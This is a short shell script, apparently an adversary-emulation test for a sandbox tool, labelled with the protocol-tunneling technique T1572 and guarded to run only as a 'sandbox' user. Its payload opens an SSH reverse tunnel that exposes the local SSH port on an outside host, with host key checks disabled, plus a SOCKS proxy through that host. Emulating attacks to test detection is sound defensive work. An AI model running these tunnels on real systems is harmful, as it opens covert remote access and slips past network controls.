#!/bin/sh
# technique: T1572
# needs: ssh
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -f -N -R 8080:127.0.0.1:22 x@203.0.113.7; ssh -o ConnectTimeout=2 -o BatchMode=yes -D 1080 -N x@203.0.113.7
